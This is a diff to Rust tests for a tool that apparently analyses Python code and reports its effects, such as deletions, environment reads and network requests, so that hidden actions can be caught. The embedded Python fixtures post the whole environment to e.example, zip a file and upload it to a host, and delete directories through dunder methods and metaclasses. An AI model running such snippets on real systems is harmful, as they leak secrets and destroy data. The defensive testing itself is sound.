@@ -4,8 +4,8 @@
 
 mod common;
 
-use common::{Recorder, facts, program, run_with};
-use tollgate_code::facts::{Act, Why};
+use common::{FILE, Recorder, facts, program, run_with};
+use tollgate_code::facts::{Act, Data, Why};
 use tollgate_code::holes::Source;
 use tollgate_code::run;
 use tollgate_shell::value::{Hole, HoleSource, Piece, Taint, Text};
@@ -167,7 +167,7 @@ fn data_that_is_sent_is_told() {
 fn the_environment_is_read_where_it_goes_out() {
     let code = "import os, json, requests, subprocess\nsubprocess.run(['make'], env=dict(os.environ, A='1'))\n\
         requests.post('https://e.example', data=json.dumps({'env': dict(os.environ)}))\n";
-    assert_eq!(acts(code), ["run make", "env *", "request POST https://e.example ‹?›"]);
+    assert_eq!(acts(code), ["run make", "env *", "request POST https://e.example json.dumps()"]);
 }
 
 #[test]
@@ -277,4 +277,78 @@ fn time_grows_with_the_text() {
         let (small, large) = (spent(50), spent(800));
         assert!(large < small * 24, "{line}: {small} {large}");
     }
+}
+
+#[test]
+fn options_are_what_was_given_or_their_defaults() {
+    let parser =
+        "import argparse, shutil\np = argparse.ArgumentParser()\np.add_argument('--dir', default='/a')\n";
+    let parsed = |given: &str| acts(&format!("{parser}shutil.rmtree(p.parse_args({given}).dir)\n"));
+    assert_eq!(parsed(""), ["delete /a/**"]);
+    assert_eq!(parsed("['--dir', '/b']"), ["delete /b/**"]);
+    assert_eq!(parsed("['--di=/c']"), ["delete /c/**"]);
+}
+
+#[test]
+fn methods_run_without_being_called_by_their_names() {
+    let run = |method: &str, code: &str| {
+        acts(&format!("import shutil\nclass C:\n    def {method}: shutil.rmtree('/a')\n{code}\n"))
+    };
+    for (method, code) in [
+        ("__contains__(s, o)", "1 in C()"),
+        ("__eq__(s, o)", "C() == 1"),
+        ("__bool__(s)", "if C(): pass"),
+        ("__radd__(s, o)", "'x' + C()"),
+        ("__iadd__(s, o)", "c = C()\nc += 1"),
+        ("__del__(s)", "c = C()"),
+        ("__new__(c)", "C()"),
+        ("__class_getitem__(c, k)", "C[1]"),
+        ("__hash__(s)", "{C(): 1}"),
+        ("__setattr__(s, k, v)", "C().x = 1"),
+        ("__missing__(s, k)", "C()['x']"),
+    ] {
+        assert_eq!(run(method, code), ["delete /a/**"], "{method}");
+    }
+}
+
+#[test]
+fn a_property_and_a_class_that_makes_classes_say_what_is_set() {
+    let property = "import shutil\nclass A:\n    @property\n    def q(self): return self._q\n    @q.setter\n    \
+        def q(self, v): self._q = '/b'\no = A()\no.q = '/a'\nshutil.rmtree(o.q)\n";
+    assert_eq!(acts(property), ["delete /b/**"]);
+    let maker = "import shutil\nclass M(type):\n    def __call__(cls, k): shutil.rmtree(k)\n\
+        class E(metaclass=M): pass\nE('/a')\n";
+    assert_eq!(acts(maker), ["delete /a/**"]);
+}
+
+#[test]
+fn a_pattern_says_which_names_are_meant() {
+    for test in ["fnmatch.fnmatch(f, '*.o')", "re.search(r'\\.o$', f)", "os.path.splitext(f)[1] == '.o'"] {
+        let code = format!(
+            "import os, fnmatch, re\nfor f in os.listdir('/a'):\n    if {test}:\n        os.remove(os.path.join('/a', f))\n"
+        );
+        assert_eq!(acts(&code), ["delete /a/*.o"], "{test}");
+    }
+}
+
+#[test]
+fn what_is_put_into_an_archive_goes_with_it() {
+    let mut host = Recorder::new();
+    let code = "import io, zipfile, requests\nb = io.BytesIO()\nzipfile.ZipFile(b, 'w').write('/a/x')\n\
+        requests.put('https://h', data=b.getvalue())\n";
+    run_with(code, &mut host);
+    let sent = host.facts.iter().find_map(|fact| match &fact.act {
+        Act::Request { data, .. } => {
+            data.named.iter().find(|(name, _)| &**name == "data").map(|(_, data)| data)
+        }
+        _ => None,
+    });
+    assert!(matches!(sent, Some(Data::Text(text)) if text.taint.0 & FILE.0 != 0), "{sent:?}");
+}
+
+#[test]
+fn what_a_test_replaces_does_nothing() {
+    let code = "import shutil\nfrom unittest import mock\nwith mock.patch('shutil.rmtree'):\n    shutil.rmtree('/a')\n\
+        shutil.rmtree('/b')\n";
+    assert_eq!(acts(code), ["delete /b/**"]);
 }
